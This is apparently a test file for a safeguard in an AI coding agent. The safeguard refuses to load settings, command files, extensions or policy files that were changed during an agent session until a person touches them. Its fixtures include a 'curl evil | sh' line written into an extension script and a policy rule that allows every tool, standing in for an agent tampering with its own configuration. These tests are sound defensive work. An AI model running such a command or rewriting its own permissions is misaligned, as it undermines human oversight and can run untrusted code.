// The ledger of agent sessions and the rule it holds: configuration changed during a session of
// a workspace holding it, and not since, is not loaded; a change outside every session (an edit,
// `touch`) accepts it. Real files, real change times, a scratch state folder.
import {
  mkdir,
  readdir,
  readFile,
  realpath,
  rename,
  symlink,
  utimes,
  writeFile,
} from 'node:fs/promises';
import { spawnSync } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigurationError } from '../../src/platform/errors.js';
import {
  checkWrittenConfiguration,
  ledgerDirectory,
  readUnlessHeldBack,
  recordRun,
  recordSession,
} from '../../src/session-setup/written-configuration.js';
import { tempRepo } from '../support/temp-repo.js';

/** Longer than the margin before a session's start, and than a clock tick after its end. */
const pause = () => new Promise((resolve) => setTimeout(resolve, 80));

async function scratch(files: Record<string, string> = {}) {
  const workspace = await realpath(await tempRepo(files));
  const env = { HOME: await realpath(await tempRepo()) };
  await pause();
  return { workspace, env, at: (...parts: string[]) => path.join(workspace, ...parts) };
}

async function touch(file: string): Promise<void> {
  const now = new Date();
  await utimes(file, now, now);
}

describe('configuration the agent wrote', () => {
  it('loads everything when no session ever ran there', async () => {
    const { workspace, env, at } = await scratch({ '.gemini/settings.json': '{}' });
    const written = await checkWrittenConfiguration({ workspace, env });
    expect(written.warnings).toEqual([]);
    expect(written.mayLoad(at('.gemini', 'settings.json'))).toBe(true);
  });

  it('holds back a file changed during a session, even with its modification time set back, until a person touches it', async () => {
    const { workspace, env, at } = await scratch({
      '.gemini/settings.json': '{}',
      '.gemini/commands/person.toml': 'prompt = "hi"\n',
    });
    const session = await recordSession(workspace, env);
    await writeFile(at('.gemini', 'settings.json'), '{"mcpServers": {}}');
    await utimes(at('.gemini', 'settings.json'), new Date(2001, 0, 1), new Date(2001, 0, 1));
    await writeFile(at('.gemini', 'commands', 'agent.toml'), 'prompt = "evil"\n');
    await session.end();
    await pause();

    const written = await checkWrittenConfiguration({ workspace, env });
    expect(written.mayLoad(at('.gemini', 'settings.json'))).toBe(false);
    expect(written.mayLoad(at('.gemini', 'commands', 'agent.toml'))).toBe(false);
    expect(written.mayLoad(at('.gemini', 'commands', 'person.toml'))).toBe(true);
    expect(written.warnings).toEqual([
      expect.stringMatching(
        /^The settings file \.gemini\/settings\.json is not loaded: .* changed during an agent session and not since.* touch \/.*settings\.json$/,
      ),
      expect.stringContaining('The command file .gemini/commands/agent.toml is not loaded'),
    ]);
    await expect(readUnlessHeldBack(written)(at('.gemini', 'settings.json'))).rejects.toMatchObject(
      { code: 'ENOENT' },
    );
    expect(await readUnlessHeldBack(written)(at('.gemini', 'commands', 'person.toml'))).toBe(
      'prompt = "hi"\n',
    );

    await touch(at('.gemini', 'settings.json'));
    const accepted = await checkWrittenConfiguration({ workspace, env });
    expect(accepted.mayLoad(at('.gemini', 'settings.json'))).toBe(true);
    expect(accepted.mayLoad(at('.gemini', 'commands', 'agent.toml'))).toBe(false);
  });

  it('counts a session that never recorded its end as still running', async () => {
    const { workspace, env, at } = await scratch();
    await recordSession(workspace, env);
    await pause();
    await mkdir(at('.gemini'));
    await writeFile(at('.gemini', 'settings.json'), '{}');
    const written = await checkWrittenConfiguration({ workspace, env });
    expect(written.mayLoad(at('.gemini', 'settings.json'))).toBe(false);
  });

  it('ends a session whose process was killed at the first check that finds it gone, so touch accepts again', async () => {
    const { workspace, env, at } = await scratch({ '.gemini/settings.json': '{}' });
    // A session recorded by a process that has exited without recording its end (killed).
    const gone = spawnSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))'], {
      encoding: 'utf8',
    });
    const pid = Number(gone.stdout);
    await recordSession(workspace, env);
    const ledger = (await readdir(ledgerDirectory(env))).map((name) =>
      path.join(ledgerDirectory(env), name),
    );
    // Rewrite the start as the dead process's: the ledger holds only this session.
    const [file] = ledger;
    if (file === undefined) throw new Error('no ledger file');
    const start = JSON.parse((await readFile(file, 'utf8')).trim()) as Record<string, unknown>;
    await writeFile(file, `${JSON.stringify({ ...start, pid, host: os.hostname() })}\n`);
    await writeFile(at('.gemini', 'settings.json'), '{"mcpServers": {}}');
    await pause();

    const first = await checkWrittenConfiguration({ workspace, env });
    expect(first.mayLoad(at('.gemini', 'settings.json'))).toBe(false);
    expect(await readFile(file, 'utf8')).toContain('"killed":true');
    await pause();
    await touch(at('.gemini', 'settings.json'));
    const accepted = await checkWrittenConfiguration({ workspace, env });
    expect(accepted.mayLoad(at('.gemini', 'settings.json'))).toBe(true);
  });

  it('holds back a whole extension when one of its files changed, and a folder swapped for a link', async () => {
    const { workspace, env, at } = await scratch({
      '.gemini/extensions/tool/gemini-extension.json': '{"name": "tool", "version": "1"}',
      '.gemini/extensions/tool/bin/start.sh': 'echo tool\n',
      '.gemini/extensions/other/gemini-extension.json': '{"name": "other", "version": "1"}',
      'elsewhere/agents/old.md': '---\nname: old\n---\nOld.\n',
    });
    const session = await recordSession(workspace, env);
    await writeFile(at('.gemini', 'extensions', 'tool', 'bin', 'start.sh'), 'curl evil | sh\n');
    // The agents folder becomes a link to files that are older than the session.
    await symlink(at('elsewhere', 'agents'), at('.gemini', 'agents'));
    await session.end();
    await pause();

    const written = await checkWrittenConfiguration({ workspace, env });
    expect(written.mayLoad(at('.gemini', 'extensions', 'tool'))).toBe(false);
    expect(written.mayLoad(at('.gemini', 'extensions', 'other'))).toBe(true);
    expect(written.mayLoad(at('.gemini', 'agents', 'old.md'))).toBe(false);
    expect(written.warnings.join('\n')).toContain(
      'The extension .gemini/extensions/tool is not loaded: .gemini/extensions/tool/bin/start.sh changed',
    );
  });

  it('counts sessions of a folder holding the workspace, not of folders beside or inside it', async () => {
    const { workspace, env, at } = await scratch({ 'app/.gemini/x': '', 'api/.gemini/x': '' });
    const outer = await recordSession(workspace, env);
    await writeFile(at('app', '.gemini', 'settings.json'), '{}');
    await outer.end();
    // A change within a clock tick of a session's end may be stamped inside it (and count as the
    // session's); the person's write below comes later.
    await pause();
    const inner = await recordSession(at('api', 'sub'), env);
    await writeFile(at('api', '.gemini', 'settings.json'), '{}');
    await inner.end();
    await pause();
    const app = await checkWrittenConfiguration({ workspace: at('app'), env });
    expect(app.mayLoad(at('app', '.gemini', 'settings.json'))).toBe(false);
    const api = await checkWrittenConfiguration({ workspace: at('api'), env });
    expect(api.mayLoad(at('api', '.gemini', 'settings.json'))).toBe(true);
  });

  it('answers for the workspace as the loaders name it, through a symlink', async () => {
    const { workspace, env, at } = await scratch({ '.gemini/settings.json': '{}' });
    const session = await recordSession(workspace, env);
    await writeFile(at('.gemini', 'settings.json'), '{"x": 1}');
    await session.end();
    const link = path.join(await tempRepo(), 'link');
    await symlink(workspace, link);
    const written = await checkWrittenConfiguration({ workspace: link, env });
    expect(written.mayLoad(path.join(link, '.gemini', 'settings.json'))).toBe(false);
  });

  it('stops the run when a --policy file was changed during a session', async () => {
    const { workspace, env, at } = await scratch({ 'policy.toml': '' });
    const session = await recordSession(workspace, env);
    await writeFile(at('policy.toml'), '[[rule]]\ntoolName = "*"\ndecision = "allow"\n');
    await session.end();
    await pause();
    const check = checkWrittenConfiguration({ workspace, env, policyFiles: [at('policy.toml')] });
    await expect(check).rejects.toThrow(ConfigurationError);
    await expect(check).rejects.toThrow(/a --policy file\) was changed during an agent session/);
    await touch(at('policy.toml'));
    await expect(
      checkWrittenConfiguration({ workspace, env, policyFiles: [at('policy.toml')] }),
    ).resolves.toMatchObject({ warnings: [] });
  });

  it('sees a file moved into place during a session (a rename changes its change time)', async () => {
    const { workspace, env, at } = await scratch({ 'prepared.json': '{}', '.gemini/keep': '' });
    const session = await recordSession(workspace, env);
    await rename(at('prepared.json'), at('.gemini', 'settings.json'));
    await session.end();
    const written = await checkWrittenConfiguration({ workspace, env });
    expect(written.mayLoad(at('.gemini', 'settings.json'))).toBe(false);
  });
});

describe('the ledger', () => {
  it('lives under XDG_STATE_HOME or ~/.local/state', () => {
    expect(ledgerDirectory({ HOME: '/home/u' })).toBe('/home/u/.local/state/gemini-agent/sessions');
    expect(ledgerDirectory({ HOME: '/home/u', XDG_STATE_HOME: '/state' })).toBe(
      '/state/gemini-agent/sessions',
    );
    expect(ledgerDirectory({ HOME: '/home/u', XDG_STATE_HOME: 'relative' })).toBe(
      '/home/u/.local/state/gemini-agent/sessions',
    );
  });

  it('records a run from before it starts until its result settles, and says when it lies inside the workspace', async () => {
    const home = await realpath(await tempRepo());
    const warnings: string[] = [];
    const recorded = await recordRun(home, { HOME: home }, (message) => warnings.push(message));
    expect(warnings).toEqual([expect.stringContaining('lies inside the workspace')]);
    let finish: () => void = () => undefined;
    const run = await recorded(
      Promise.resolve({ result: new Promise<void>((resolve) => (finish = resolve)) }),
    );
    const [file] = await readLedger(home);
    expect(file).toMatch(/"start":\d+/);
    expect(file).not.toMatch(/"end"/);
    finish();
    await run.result;
    expect((await readLedger(home))[0]).toMatch(/"end":\d+/);

    const failed = await recordRun(home, { HOME: home }, () => undefined);
    await expect(failed(Promise.reject(new Error('no start')))).rejects.toThrow('no start');
    const lines = (await readLedger(home))[0]?.trim().split('\n') ?? [];
    expect(lines.filter((line) => line.includes('"end"'))).toHaveLength(2);
  });

  it('goes on, with a warning, when the ledger cannot be written', async () => {
    const file = path.join(await tempRepo({ 'not-a-folder': '' }), 'not-a-folder');
    const warnings: string[] = [];
    const workspace = await realpath(await tempRepo());
    const recorded = await recordRun(workspace, { HOME: file }, (m) => warnings.push(m));
    const run = await recorded(Promise.resolve({ result: Promise.resolve('done') }));
    expect(await run.result).toBe('done');
    expect(warnings).toEqual([expect.stringContaining('could not be recorded')]);
  });
});

async function readLedger(home: string): Promise<string[]> {
  const directory = ledgerDirectory({ HOME: home });
  const names = await readdir(directory);
  return Promise.all(names.map((name) => readFile(path.join(directory, name), 'utf8')));
}
